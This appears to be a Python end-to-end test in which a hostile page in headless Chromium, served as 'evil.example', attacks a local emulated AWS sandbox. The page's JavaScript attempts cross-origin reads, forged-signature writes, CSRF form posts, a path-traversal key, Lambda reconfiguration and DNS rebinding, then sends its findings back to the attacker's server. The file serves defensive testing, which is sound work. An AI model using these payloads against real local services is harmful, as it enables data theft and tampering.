"""A stranger's page in a real browser tries to read the sandbox, to change it and to run code."""

import json
import os
import shutil
import subprocess
import threading
from collections.abc import Iterator
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit, urlunsplit

import pytest

from clickstream_lake.demo.provision import lake_sandbox
from clickstream_lake.sandbox.sandbox import Sandbox

pytestmark = [pytest.mark.e2e, pytest.mark.slow]

NAMES = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
BROWSER = next(filter(None, map(shutil.which, NAMES)), None)
SECRET = b"user_id of a customer"
# Where a page is: on another port of this machine, under a name of localhost, and under one that
# means this machine only for this browser.
PAGES = {
    "another port": "http://127.0.0.1:{page}/page",
    "a local name": "http://evil.localhost:{page}/page",
    "a stranger's name": "http://evil.example:{page}/page",
}
SCRIPT = """
const target = TARGET, bucket = BUCKET, stream = STREAM, compact = FUNCTION, key = KEY;
const seen = [];
const signed = {Authorization: `AWS4-HMAC-SHA256 Credential=${key}/20260101/us-east-1/s3/` +
                               `aws4_request, SignedHeaders=host, Signature=0`};
async function tries(name, act) {
  try { seen.push([name, await act()]); }
  catch (error) { seen.push([name, `error ${error.name}`]); }
}
async function reads(path, options) {
  const answer = await fetch(target + path, options);
  return `${answer.type} ${answer.status} ${await answer.text()}`;
}
function loads(element, attribute, path) {
  return new Promise(done => {
    element.onload = () => done(`loaded ${element.naturalWidth || ""}`);
    element.onerror = () => done("error");
    element[attribute] = target + path;
    document.body.append(element);
    setTimeout(() => done("nothing"), 3000);
  });
}
function submits(method, kind, action, fields) {
  return new Promise(done => {
    const frame = document.createElement("iframe");
    frame.name = `frame${seen.length}`;
    const form = document.createElement("form");
    Object.assign(form, {method, action: target + action, target: frame.name, enctype: kind});
    for (const [name, value] of Object.entries(fields)) {
      const field = document.createElement("textarea");
      Object.assign(field, {name, value});
      form.append(field);
    }
    document.body.append(frame, form);
    frame.onload = () => {
      let text = "unreadable";
      try { text = frame.contentDocument.body.innerText; } catch (error) { text = error.name; }
      done(text);
    };
    form.submit();
    setTimeout(() => done("nothing"), 3000);
  });
}
function connects() {
  return new Promise(done => {
    const socket = new WebSocket(target.replace("http", "ws") + "/");
    socket.onopen = () => done("open");
    socket.onerror = () => done("error");
    setTimeout(() => done("nothing"), 3000);
  });
}
async function everything() {
  const listing = `/${bucket}?list-type=2`, invoke = `/2015-03-31/functions/${compact}/invocations`;
  const configure = `/2015-03-31/functions/${compact}/configuration`;
  for (const credentials of ["omit", "include"]) for (const mode of ["cors", "no-cors"]) {
    const how = `${mode} ${credentials}`, options = {mode, credentials};
    for (const path of [listing, `/${bucket}/secret`, "/_sandbox/status", "/moto-api/data.json"])
      await tries(`GET ${path} ${how}`, () => reads(path, options));
    for (const path of [`/${bucket}`, "/", invoke, "/_sandbox/flush", "/moto-api/reset"])
      await tries(`POST ${path} ${how}`,
                  () => reads(path, {...options, method: "POST", body: "{}"}));
  }
  for (const headers of [{}, signed]) {
    const named = Object.keys(headers).length ? "signed" : "plain";
    await tries(`GET ${named}`, () => reads(listing, {headers}));
    await tries(`PUT ${named}`,
                () => reads(`/${bucket}/planted`, {method: "PUT", headers, body: "x"}));
    await tries(`DELETE ${named}`, () => reads(`/${bucket}/secret`, {method: "DELETE", headers}));
    await tries(`configure ${named}`, () => reads(configure, {
      method: "PUT", headers, body: JSON.stringify({Handler: "cProfile.run"})}));
    await tries(`firehose ${named}`, () => reads("/", {
      method: "POST", headers: {...headers, "X-Amz-Target": "Firehose_20150804.PutRecord"},
      body: JSON.stringify({DeliveryStreamName: stream, Record: {Data: btoa("planted")}})}));
  }
  await tries("form", () => submits("post", "multipart/form-data", `/${bucket}`,
    {key: "../../planted", file: "planted"}));
  // With the key in the address there is nothing that a browser would ask about first.
  const asKey = `X-Amz-Credential=${key}/20260101/us-east-1/s3/aws4_request`;
  await tries("presigned form", () => submits("post", "multipart/form-data",
    `/${bucket}?${asKey}`, {key: "planted", file: "planted"}));
  await tries("presigned invoke", () => submits("post", "text/plain", `${invoke}?${asKey}`, {}));
  await tries("presigned img", () => loads(new Image(), "src", `/${bucket}/image.png?${asKey}`));
  await tries("urlencoded form", () => submits("post", "application/x-www-form-urlencoded", "/",
    {Action: "PurgeQueue", Version: "2012-11-05", QueueUrl: "/123456789012/x"}));
  await tries("text form", () => submits("post", "text/plain", invoke, {x: "y"}));
  await tries("get form", () => submits("get", "text/plain", `/${bucket}/secret`, {x: "y"}));
  await tries("beacon", async () => String(navigator.sendBeacon(target + invoke, "{}")));
  await tries("img", () => loads(new Image(), "src", `/${bucket}/image.png`));
  const script = document.createElement("script"), frame = document.createElement("iframe");
  await tries("script", () => loads(script, "src", `/${bucket}/script.js`));
  await tries("frame", () => loads(frame, "src", `/${bucket}/secret`));
  await tries("websocket", connects);
  return [seen, window.planted || null];
}
everything().then(report => fetch("/report", {method: "POST", body: JSON.stringify(report)}));
"""
# One pixel, so that an image that may be read is loaded.
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c49444154789c63f8cf"
    "c0000003010100c9fe92ef0000000049454e44ae426082"
)


class Stranger(ThreadingHTTPServer):
    """Serves one page to whoever asks, and takes what it reports.

    As the browser's proxy it is what a name does that means the stranger's server at first and
    this machine later (DNS rebinding): the page and the sandbox are one origin then.
    """

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Page)
        self.page = b""
        self.report: Any = None
        self.reported = threading.Event()

    @property
    def port(self) -> int:
        return int(self.server_address[1])


class _Page(BaseHTTPRequestHandler):
    server: Stranger

    def do_GET(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"] or 0))
        asked = urlsplit(self.path)
        if asked.path == "/page":
            self._answer(200, self.server.page)
        elif asked.path == "/report":
            self.server.report = json.loads(body)
            self._answer(200, b"")
            self.server.reported.set()
        elif asked.hostname == "evil.example":
            sandbox = HTTPConnection("127.0.0.1", int(asked.port or 0))
            path = urlunsplit(asked._replace(scheme="", netloc=""))
            sandbox.request(self.command, path, body, dict(self.headers))
            answer = sandbox.getresponse()
            self._answer(answer.status, answer.read(), str(answer.headers["Content-Type"]))
            sandbox.close()
        else:
            self._answer(404, b"")

    do_POST = do_PUT = do_DELETE = do_OPTIONS = do_CONNECT = do_GET  # noqa: N815 - the library's names

    def _answer(self, status: int, body: bytes, kind: str = "text/html") -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the library's name
        pass


@pytest.fixture
def stranger() -> Iterator[Stranger]:
    with Stranger() as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sandbox]:
    with lake_sandbox(directory=tmp_path_factory.mktemp("around") / "lake") as running:
        s3 = running.client("s3")
        script = b"window.planted = 'a script of the lake';"
        for key, body in {"secret": SECRET, "image.png": PIXEL, "script.js": script}.items():
            s3.put_object(Bucket=running.bucket, Key=key, Body=body)
        running.wait_idle()
        yield running


def everything_in(sandbox: Sandbox) -> Any:  # noqa: ANN401 - of all kinds
    """What a page might have changed."""
    s3, functions = sandbox.client("s3"), sandbox.client("lambda")
    listed = s3.list_objects_v2(Bucket=sandbox.bucket)["Contents"]
    return (
        [(entry["Key"], entry["ETag"], entry["LastModified"]) for entry in listed],
        [
            (each["FunctionName"], each["Handler"])
            for each in functions.list_functions()["Functions"]
        ],
        {name: stats.invocations for name, stats in sandbox.functions.stats.items()},
        sandbox.client("sqs").list_queues()["QueueUrls"],
        sandbox.firehose.stats.records,
        sandbox.in_flight(),
    )


def visit(url: str, profile: Path, stranger: Stranger, *options: str) -> Any:  # noqa: ANN401 - what the page says
    assert BROWSER is not None
    with subprocess.Popen(  # noqa: S603 - the machine's browser
        [
            BROWSER,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--no-first-run",
            "--disable-extensions",
            *options,
            f"--user-data-dir={profile}",
            "--remote-debugging-port=0",
            url,
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env={**os.environ, "HOME": str(profile)},
    ) as browser:
        try:
            assert stranger.reported.wait(120), "the page has not come to its end"
        finally:
            browser.terminate()
    return stranger.report


def page_of(sandbox: Sandbox, target: str, *, known: bool) -> bytes:
    blanks = {
        "TARGET": target,
        "BUCKET": sandbox.bucket,
        "STREAM": sandbox.stream,
        "FUNCTION": f"{sandbox.stream}-compact",
        "KEY": sandbox.clients.credentials.access_key_id if known else "sandbox",
    }
    script = SCRIPT
    for name, value in blanks.items():
        script = script.replace(f"= {name}", f"= {json.dumps(value)}", 1)
    return f"<!doctype html><meta charset=utf-8><body><script>{script}</script>".encode()


tried = pytest.mark.skipif(BROWSER is None, reason="NOT TRIED: no Chromium or Chrome is here")
# What says nothing: no answer, an opaque one, or one that is in a frame of another origin.
HARMLESS = {
    *("error TypeError", "error", "opaque 0 ", "SecurityError", "TypeError", "nothing"),
    *("unreadable", "loaded "),
}


@tried
@pytest.mark.parametrize("known", [False, True])
@pytest.mark.parametrize("aim", ["{sandbox}", "http://evil.example:{port}"])
@pytest.mark.parametrize("page", PAGES)
def test_a_page_of_another_origin_reads_nothing_changes_nothing_and_runs_nothing(
    *, page: str, aim: str, known: bool, sandbox: Sandbox, stranger: Stranger, tmp_path: Path
) -> None:
    target = aim.format(sandbox=sandbox.endpoint, port=urlsplit(sandbox.endpoint).port)
    stranger.page = page_of(sandbox, target, known=known)
    before = everything_in(sandbox)

    seen, ran = visit(
        PAGES[page].format(page=stranger.port),
        tmp_path,
        stranger,
        "--host-resolver-rules=MAP evil.example 127.0.0.1",
        "--no-proxy-server",
    )

    told = dict(seen)
    assert len(told) > 40
    assert told.pop("beacon") in {"true", "false"}  # whether it was sent
    assert {name: text for name, text in told.items() if text not in HARMLESS} == {}
    assert told["img"] == told["presigned img"] == told["script"] == told["websocket"] == "error"
    assert ran is None
    assert SECRET.decode() not in json.dumps(seen)
    assert everything_in(sandbox) == before


@tried
@pytest.mark.parametrize("known", [False, True])
def test_a_page_whose_name_has_come_to_mean_this_machine_gets_refusals_alone(
    *, known: bool, sandbox: Sandbox, stranger: Stranger, tmp_path: Path
) -> None:
    """For the browser it is the sandbox's own page: only the Host tells."""
    origin = f"http://evil.example:{urlsplit(sandbox.endpoint).port}"
    stranger.page = page_of(sandbox, origin, known=known)
    before = everything_in(sandbox)

    seen, ran = visit(
        f"{origin}/page", tmp_path, stranger, f"--proxy-server=127.0.0.1:{stranger.port}"
    )

    told = dict(seen)
    refused = {name: text for name, text in told.items() if "not to the Host 'evil" in text}
    assert len(refused) > 40, "the page could read what it was told"
    del told["beacon"]
    assert {name for name, text in told.items() if text not in HARMLESS} <= refused.keys()
    assert told["img"] == told["presigned img"] == told["script"] == told["websocket"] == "error"
    assert ran is None
    assert SECRET.decode() not in json.dumps(seen)
    assert everything_in(sandbox) == before
